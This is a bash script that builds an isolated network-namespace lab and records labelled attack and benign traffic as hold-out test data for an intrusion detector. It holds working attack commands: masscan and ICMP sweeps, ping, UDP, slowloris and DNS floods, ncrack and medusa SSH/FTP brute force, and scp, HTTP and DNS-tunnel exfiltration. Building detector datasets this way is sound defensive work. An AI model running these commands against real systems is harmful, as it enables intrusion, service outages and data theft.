#!/usr/bin/env bash
# Independent hold-out captures for the CyberMesh detector: attack and benign
# traffic made with other tools, rates, protocols and patterns than
# gen-data.sh, so that scores on it say something about families the lab never
# produced. Run as root.
#
#   scripts/mesh/holdout.sh [OUT_DIR] [ROUNDS] [ROUND_SECONDS]
#   (defaults: data/mesh-holdout 2 240)
#
# Output per round r: OUT_DIR/round-r.pcap (everything on the bridge) and
# lines in OUT_DIR/labels.csv (round,src_ip,class,family,start,end; epoch
# seconds; one line per attacker address and family, benign hosts for the
# whole round) -- the same format gen-data.sh writes.
#
# Safety: addresses in 10.78.0.0/24 only, on veth links joined by a bridge in
# namespace mho-hub; all namespaces are named mho-*; nothing is routed to the
# host; every loop has a deadline; the EXIT trap kills every process in the
# mho-* namespaces and deletes them. MESH_SKIP_APT=1 skips apt-get.
set -euo pipefail

here="$(cd "$(dirname "$0")" && pwd)"
root="$(cd "$here/../.." && pwd)"
py="$here/holdout"
out="${1:-$root/data/mesh-holdout}"
rounds="${2:-2}"
round_secs="${3:-240}"
[ "$(id -u)" = 0 ] || { echo "holdout.sh: run as root (needs ip netns)" >&2; exit 1; }
mkdir -p "$out"
out="$(cd "$out" && pwd)"

if [ "${MESH_SKIP_APT:-0}" != 1 ]; then
  apt-get update
  want="iproute2 tcpdump nmap masscan ncrack medusa slowhttptest iperf3 openssh-server openssh-client
        sshpass rsync vsftpd curl dnsutils iputils-ping python3 procps git"
  avail=""
  for p in $want; do
    if apt-cache policy "$p" 2>/dev/null | grep -q 'Candidate: [0-9]'; then avail="$avail $p"
    else echo "holdout.sh: package $p not available, skipped" >&2; fi
  done
  # shellcheck disable=SC2086
  DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends $avail
fi
have() { command -v "$1" >/dev/null 2>&1; }

NET=10.78.0
SRV=$NET.10
SRV2=$NET.11
SRV3=$NET.12
HUB=mho-hub
USER_NAME=mhouser
USER_PW='Blue-Lantern-42'
# benign hosts: one per kind
BENIGN="b1:$NET.21:hb-backup b2:$NET.22:hb-mirror b3:$NET.23:hb-videocall b4:$NET.24:hb-gitssh
        b5:$NET.25:hb-monitor b6:$NET.26:hb-browse b7:$NET.27:hb-dns"
# attackers: one address per family, a1..a16 -> .101...116
aip() { echo "$NET.$((100 + ${1#a}))"; }
ns() { ip netns exec "mho-$1" "${@:2}"; }
now() { date +%s.%N; }

created_user=0
cleanup() {
  set +e
  for n in $(ip netns list | awk '{print $1}' | grep '^mho-'); do
    ip netns pids "$n" 2>/dev/null | xargs -r kill 2>/dev/null
  done
  sleep 1
  for n in $(ip netns list | awk '{print $1}' | grep '^mho-'); do
    ip netns pids "$n" 2>/dev/null | xargs -r kill -9 2>/dev/null
    ip netns del "$n"
  done
  [ -n "${work:-}" ] && rm -rf "$work"
  if [ "$created_user" = 1 ]; then userdel -r "$USER_NAME" >/dev/null 2>&1; fi
}
trap cleanup EXIT
work=""
cleanup 2>/dev/null || true
work="$(mktemp -d /tmp/mho-gen.XXXXXX)"
chmod 755 "$work"
t_begin=$(date +%s)

# ---- topology ---------------------------------------------------------------
ip netns add "$HUB"
ip -n "$HUB" link set lo up
ip -n "$HUB" link add br0 type bridge
ip -n "$HUB" link set br0 up
add_host() { # name ip
  local name=$1 addr=$2
  ip netns add "mho-$name"
  ip -n "mho-$name" link set lo up
  ip link add "mho-v-$name" type veth peer name eth0 netns "mho-$name"
  ip link set "mho-v-$name" netns "$HUB"
  ip -n "$HUB" link set "mho-v-$name" master br0 up
  ip -n "mho-$name" addr add "$addr/24" dev eth0
  ip -n "mho-$name" link set eth0 up
}
add_host srv "$SRV"; add_host srv2 "$SRV2"; add_host srv3 "$SRV3"
for h in $BENIGN; do IFS=: read -r n a _ <<<"$h"; add_host "$n" "$a"; done
for i in $(seq 1 16); do add_host "a$i" "$(aip "a$i")"; done
# ping-only addresses on srv2 (something for the ICMP sweep to find)
for i in $(seq 150 179); do ip -n mho-srv2 addr add "$NET.$i/24" dev eth0; done
SRV_MAC=$(ip -n mho-srv -o link show eth0 | grep -o 'link/ether [0-9a-f:]*' | awk '{print $2}')

# ---- content and accounts ------------------------------------------------------
if ! id "$USER_NAME" >/dev/null 2>&1; then useradd -m -s /bin/bash "$USER_NAME"; created_user=1; fi
echo "$USER_NAME:$USER_PW" | chpasswd
mkdir -p "$work/www/static" "$work/www/pool" "$work/www/dists" "$work/ftp" "$work/incoming" /run/sshd /var/run/vsftpd/empty
for i in $(seq 1 40); do head -c $((RANDOM % 30000 + 2000)) /dev/urandom | base64 > "$work/www/page$i.html"; done
for i in $(seq 1 60); do head -c $((RANDOM % 150000 + 500)) /dev/urandom > "$work/www/static/asset$i.bin"; done
for i in $(seq 1 80); do head -c $(( (RANDOM % 60 + 1) * 30000 )) /dev/urandom > "$work/www/pool/pkg$i.deb"; done
head -c 4000 /dev/urandom | base64 > "$work/www/dists/Release"
head -c 900000 /dev/urandom | base64 > "$work/www/dists/Packages"
head -c 200000 /dev/urandom > "$work/ftp/notes.bin"
chown "$USER_NAME" "$work/incoming"
chmod -R a+rX "$work"
ssh-keygen -A >/dev/null
ssh-keygen -q -t ed25519 -N '' -f "$work/id_benign"
install -d -m 700 -o "$USER_NAME" "/home/$USER_NAME/.ssh"
cat "$work/id_benign.pub" > "/home/$USER_NAME/.ssh/authorized_keys"
chown "$USER_NAME" "/home/$USER_NAME/.ssh/authorized_keys"; chmod 600 "/home/$USER_NAME/.ssh/authorized_keys"
# a git repository for the developer's short ssh sessions
git init -q --bare "$work/repo.git"; chown -R "$USER_NAME" "$work/repo.git"
SSHOPT=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5)
export GIT_SSH_COMMAND="ssh -i $work/id_benign ${SSHOPT[*]}"
git init -q "$work/gitclient"
( cd "$work/gitclient" && git config user.email dev@lan && git config user.name dev &&
  echo start > README && git add README && git commit -q -m init &&
  git remote add origin "$USER_NAME@$SRV:$work/repo.git" )

cat > "$work/sshd_config" <<EOF
Port 22
ListenAddress $SRV
PasswordAuthentication yes
PubkeyAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
MaxStartups 100:30:200
MaxAuthTries 6
LoginGraceTime 20
PidFile $work/sshd.pid
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
cat > "$work/vsftpd.conf" <<EOF
listen=YES
listen_address=$SRV
anonymous_enable=NO
local_enable=YES
write_enable=NO
local_root=$work/ftp
pam_service_name=vsftpd
seccomp_sandbox=NO
max_per_ip=0
max_clients=0
pasv_enable=YES
pasv_min_port=31000
pasv_max_port=31100
secure_chroot_dir=/var/run/vsftpd/empty
EOF
ns srv /usr/sbin/sshd -f "$work/sshd_config"
ns srv vsftpd "$work/vsftpd.conf" >/dev/null 2>&1 &
ns srv python3 "$py/servers.py" web "$SRV" 80 "$work/www" "$USER_NAME" "$USER_PW" >/dev/null 2>&1 &
ns srv python3 "$py/servers.py" dns "$SRV" 53 >/dev/null 2>&1 &
ns srv python3 "$py/servers.py" telnet "$SRV" 23 "$USER_NAME" "$USER_PW" >/dev/null 2>&1 &
ns srv python3 "$py/servers.py" rtc "$SRV" 3478 150 >/dev/null 2>&1 &
ns srv iperf3 -s -B "$SRV" -D >/dev/null 2>&1
MON_PORTS=$(seq -s, 9100 9113)
for h in srv:$SRV srv2:$SRV2 srv3:$SRV3; do
  # shellcheck disable=SC2046
  ns "${h%%:*}" python3 "$py/servers.py" ports "${h#*:}" $(seq 9100 9113) >/dev/null 2>&1 &
done
sleep 2

# word lists: wrong guesses in the style of common-password lists
python3 - "$work" <<'EOF'
import random, sys
w = sys.argv[1]
base = ["password", "admin", "welcome", "letmein", "qwerty", "dragon", "monkey", "summer", "winter",
        "spring", "autumn", "football", "master", "shadow", "sunshine", "princess", "root", "changeme",
        "secret", "trustno1", "iloveyou", "company", "server", "backup", "oracle", "linux", "debian"]
out = set()
while len(out) < 3000:
    b = random.choice(base)
    b = b.capitalize() if random.random() < 0.4 else b
    out.add(b + random.choice(["", "1", "123", "!", "2023", "2024", "01", "@1", "#", str(random.randint(0, 999))]))
out = list(out); random.shuffle(out)
open(w + "/guess.txt", "w").write("\n".join(out) + "\n")
EOF

labels="$out/labels.csv"
[ -f "$labels" ] || echo "round,src_ip,class,family,start,end" > "$labels"
label() { echo "$1,$2,$3,$4,$5,$6" >> "$labels"; }

# ---- benign kinds ----------------------------------------------------------------
running() { [ ! -e "$work/stop" ] && [ "$(date +%s)" -lt "$1" ]; }
hb_backup() { # b1: one nightly-backup-like upload per round (rsync over ssh, key)
  local deadline=$1 at=$2
  while running "$deadline" && [ "$(date +%s)" -lt "$at" ]; do sleep 1; done
  running "$deadline" || return 0
  head -c $(( (RANDOM % 51 + 30) * 1000000 )) /dev/urandom > "$work/backup-$at.tar"
  ns b1 timeout 120 rsync -a --bwlimit=12000 -e "ssh -i $work/id_benign ${SSHOPT[*]}" \
    "$work/backup-$at.tar" "$USER_NAME@$SRV:$work/incoming/" >/dev/null 2>&1 || true
  rm -f "$work/backup-$at.tar" "$work/incoming/backup-$at.tar"
}
hb_mirror() { # b2: package-mirror sync: index, then many package files in a row (keep-alive)
  local deadline=$1
  while running "$deadline"; do
    local urls=("http://$SRV/dists/Release" "http://$SRV/dists/Packages") n=$((RANDOM % 31 + 10)) k
    for k in $(shuf -i 1-80 -n "$n"); do urls+=("http://$SRV/pool/pkg$k.deb"); done
    ns b2 timeout 60 curl -s -A 'Debian APT-HTTP/1.3 (2.6.1)' "${urls[@]}" >/dev/null 2>&1 || true
    local t=$(( $(date +%s) + RANDOM % 26 + 15 ))
    while running "$deadline" && [ "$(date +%s)" -lt "$t" ]; do sleep 1; done
  done
}
hb_gitssh() { # b4: a developer's git over ssh: ls-remote, fetch, small pushes, 5-10 a minute
  local deadline=$1
  while running "$deadline"; do
    case $((RANDOM % 3)) in
      0) ns b4 timeout 20 git -C "$work/gitclient" ls-remote origin >/dev/null 2>&1 || true ;;
      1) ns b4 timeout 20 git -C "$work/gitclient" fetch -q origin >/dev/null 2>&1 || true ;;
      2) echo "line $RANDOM" >> "$work/gitclient/README"
         git -C "$work/gitclient" commit -q -am "edit $RANDOM" >/dev/null 2>&1 || true
         ns b4 timeout 20 git -C "$work/gitclient" push -q origin HEAD:master >/dev/null 2>&1 || true ;;
    esac
    sleep $((RANDOM % 8 + 4))
  done
}
hb_dns() { # b7: a workstation's resolver traffic
  local deadline=$1
  local names=(www.debian.org mail.lan.example intranet.lan.example github.com pypi.org
    fileserver.lan.example printer.lan.example ntp.lan.example api.example.com cdn.example.net)
  while running "$deadline"; do
    for k in $(seq 1 $((RANDOM % 3 + 1))); do
      ns b7 dig +tries=1 +time=1 @"$SRV" "${names[$((RANDOM % ${#names[@]}))]}" \
        "$(echo A AAAA A MX | tr ' ' '\n' | shuf -n1)" >/dev/null 2>&1 || true
    done
    sleep "$((RANDOM % 4)).$((RANDOM % 10))"
  done
}

# ---- attack families --------------------------------------------------------------
fam() { # round class family host -- command...
  local r=$1 class=$2 family=$3 host=$4; shift 5
  local t0; t0=$(now)
  "$@" || true
  local t1; t1=$(now)
  label "$r" "$(aip "$host")" "$class" "$family" "$t0" "$t1"
  echo "  round $r: $family $(awk "BEGIN{printf \"%.0f\", $t1 - $t0}") s" >&2
}
# portscan
ps_masscan() { local n=$((RANDOM % 1501 + 500)) base=$(( (RANDOM % 30) * 1000 + 1 ))
  ns a1 timeout 60 masscan "$SRV" -p "$base-$((base + n - 1))" --rate $((RANDOM % 41 + 50)) \
    --adapter eth0 --adapter-ip "$(aip a1)" --router-mac "$SRV_MAC" --wait 3 >/dev/null 2>&1; }
ps_slowconnect() { ns a2 timeout 80 python3 "$py/attacks.py" slowconnect "$SRV" 75; }
ps_udpprobe() { ns a3 timeout 50 python3 "$py/attacks.py" udpprobe "$SRV" $((RANDOM % 101 + 200)) 10 45; }
ps_icmpsweep() { # sequential echo requests over the /24, ~5 per second
  local end=$(( $(date +%s) + 60 )) i
  for i in $(seq 1 254); do
    [ "$(date +%s)" -lt "$end" ] || break
    ns a4 ping -c 1 -W 1 "$NET.$i" >/dev/null 2>&1 &
    sleep 0.2
  done
  wait
}
# flood
fl_pingflood() { ns a5 timeout 20 ping -q -f -w 15 -s $((RANDOM % 900 + 56)) "$SRV" >/dev/null 2>&1; }
fl_iperfudp() { ns a6 timeout 30 iperf3 -c "$SRV" -u -b $((RANDOM % 50 + 60))M -l 1400 -t 20 >/dev/null 2>&1; }
fl_connflood() { ns a7 timeout 35 python3 "$py/attacks.py" connflood "$SRV" 80 300 25; }
fl_slowloris() {
  if have slowhttptest; then
    ns a8 timeout 60 slowhttptest -H -c $((RANDOM % 200 + 400)) -r 100 -i 10 -l 40 -x 24 -p 3 \
      -u "http://$SRV/page2.html" >/dev/null 2>&1
  fi
}
fl_dnsflood() { ns a9 timeout 30 python3 "$py/attacks.py" dnsflood "$SRV" $((RANDOM % 2000 + 3000)) 20; }
# bruteforce
bf_ssh() {
  if have ncrack; then
    ns a10 timeout 45 ncrack --user "$USER_NAME" -P "$work/guess.txt" -g CL=$((RANDOM % 3 + 4)) "ssh://$SRV" >/dev/null 2>&1
  else
    ns a10 timeout 45 medusa -h "$SRV" -u "$USER_NAME" -P "$work/guess.txt" -M ssh -t 5 >/dev/null 2>&1
  fi
}
bf_ftp() { ns a11 timeout 45 medusa -h "$SRV" -u "$USER_NAME" -P "$work/guess.txt" -M ftp -t $((RANDOM % 3 + 4)) >/dev/null 2>&1; }
bf_httpform() { ns a12 timeout 40 python3 "$py/attacks.py" formbrute "$SRV" 80 admin "$work/guess.txt" 3 30; }
bf_telnet() { ns a13 timeout 50 python3 "$py/attacks.py" telnetbrute "$SRV" 23 root "$work/guess.txt" 6 40; }
# exfiltration
ex_scp() {
  head -c $(( (RANDOM % 41 + 20) * 1000000 )) /dev/urandom > "$work/loot.tgz"
  ns a14 timeout 90 sshpass -p "$USER_PW" scp -l $((RANDOM % 16000 + 8000)) "${SSHOPT[@]}" \
    "$work/loot.tgz" "$USER_NAME@$SRV:$work/incoming/" >/dev/null 2>&1
  rm -f "$work/loot.tgz" "$work/incoming/loot.tgz"
}
ex_httpup() {
  local k n=$((RANDOM % 4 + 4))
  for k in $(seq 1 "$n"); do
    head -c $(( (RANDOM % 6 + 5) * 1000000 )) /dev/urandom > "$work/part$k"
    if [ $((k % 2)) = 0 ]; then
      ns a15 timeout 20 curl -s -o /dev/null --limit-rate 4M -T "$work/part$k" "http://$SRV/upload/part$k" || true
    else
      ns a15 timeout 20 curl -s -o /dev/null --limit-rate 4M -H 'Content-Type: application/octet-stream' \
        --data-binary @"$work/part$k" "http://$SRV/upload" || true
    fi
    rm -f "$work/part$k"
    sleep $((RANDOM % 4 + 1))
  done
}
ex_dnstunnel() { ns a16 timeout 55 python3 "$py/attacks.py" dnstunnel "$SRV" t.exfil-cdn.net $((RANDOM % 60000 + 90000)) 30 50; }

lane() { # round function...
  local r=$1; shift
  for f in "$@"; do
    case $f in
      ps_masscan)     fam "$r" portscan ps-masscan a1 -- ps_masscan ;;
      ps_slowconnect) fam "$r" portscan ps-slowconnect a2 -- ps_slowconnect ;;
      ps_udpprobe)    fam "$r" portscan ps-udpprobe a3 -- ps_udpprobe ;;
      ps_icmpsweep)   fam "$r" portscan ps-icmpsweep a4 -- ps_icmpsweep ;;
      fl_pingflood)   fam "$r" flood fl-pingflood a5 -- fl_pingflood ;;
      fl_iperfudp)    fam "$r" flood fl-iperfudp a6 -- fl_iperfudp ;;
      fl_connflood)   fam "$r" flood fl-connflood a7 -- fl_connflood ;;
      fl_slowloris)   fam "$r" flood fl-slowloris a8 -- fl_slowloris ;;
      fl_dnsflood)    fam "$r" flood fl-dnsflood a9 -- fl_dnsflood ;;
      bf_ssh)         fam "$r" bruteforce bf-ncrack-ssh a10 -- bf_ssh ;;
      bf_ftp)         fam "$r" bruteforce bf-medusa-ftp a11 -- bf_ftp ;;
      bf_httpform)    fam "$r" bruteforce bf-httpform a12 -- bf_httpform ;;
      bf_telnet)      fam "$r" bruteforce bf-telnet a13 -- bf_telnet ;;
      ex_scp)         fam "$r" exfiltration ex-scp a14 -- ex_scp ;;
      ex_httpup)      fam "$r" exfiltration ex-httpupload a15 -- ex_httpup ;;
      ex_dnstunnel)   fam "$r" exfiltration ex-dnstunnel a16 -- ex_dnstunnel ;;
      sleep*) sleep "${f#sleep}" ;;
    esac
    sleep 4
  done
}

# ---- rounds ----------------------------------------------------------------------
for r in $(seq 1 "$rounds"); do
  pcap="$out/round-$r.pcap"
  ip netns exec "$HUB" tcpdump -Z root -q -n -i br0 -s 0 -B 65536 -w "$pcap" >/dev/null 2>&1 &
  dump=$!
  sleep 1
  rm -f "$work/stop"
  start=$(date +%s)
  deadline=$((start + round_secs + 400))
  pids=()
  hb_backup "$deadline" $((start + 20 + RANDOM % (round_secs > 100 ? round_secs - 90 : 10))) & pids+=($!)
  hb_mirror "$deadline" & pids+=($!)
  ns b3 python3 "$py/benign.py" call "$SRV" 3478 150 "$deadline" "$work/stop" >/dev/null 2>&1 & pids+=($!)
  hb_gitssh "$deadline" & pids+=($!)
  ns b5 python3 "$py/benign.py" monitor "$SRV,$SRV2,$SRV3" "$MON_PORTS" "$deadline" "$work/stop" >/dev/null 2>&1 & pids+=($!)
  ns b6 python3 "$py/benign.py" browse "$SRV" "$deadline" "$work/stop" >/dev/null 2>&1 & pids+=($!)
  hb_dns "$deadline" & pids+=($!)
  sleep 8
  lanes=()
  if [ $((r % 2)) = 1 ]; then
    lane "$r" ps_masscan ps_slowconnect ps_udpprobe ps_icmpsweep & lanes+=($!)
    lane "$r" sleep15 fl_pingflood fl_iperfudp fl_connflood fl_slowloris fl_dnsflood & lanes+=($!)
    lane "$r" bf_ssh bf_ftp bf_httpform bf_telnet & lanes+=($!)
    lane "$r" sleep30 ex_scp ex_httpup ex_dnstunnel & lanes+=($!)
  else
    lane "$r" ps_icmpsweep ps_udpprobe ps_slowconnect ps_masscan & lanes+=($!)
    lane "$r" sleep10 fl_dnsflood fl_slowloris fl_connflood fl_iperfudp fl_pingflood & lanes+=($!)
    lane "$r" bf_telnet bf_httpform bf_ftp bf_ssh & lanes+=($!)
    lane "$r" sleep25 ex_dnstunnel ex_httpup ex_scp & lanes+=($!)
  fi
  wait "${lanes[@]}" || true
  while [ "$(date +%s)" -lt $((start + round_secs)) ]; do sleep 1; done
  touch "$work/stop"
  wait "${pids[@]}" || true
  end=$(date +%s)
  for h in $BENIGN; do IFS=: read -r _ a k <<<"$h"; label "$r" "$a" benign "$k" "$start" "$end"; done
  sleep 2
  kill -INT "$dump"; wait "$dump" || true
  echo "round $r: $((end - start)) s, $(stat -c %s "$pcap") bytes -> $pcap" >&2
done
echo "holdout.sh: done in $(( $(date +%s) - t_begin )) s; labels: $labels" >&2
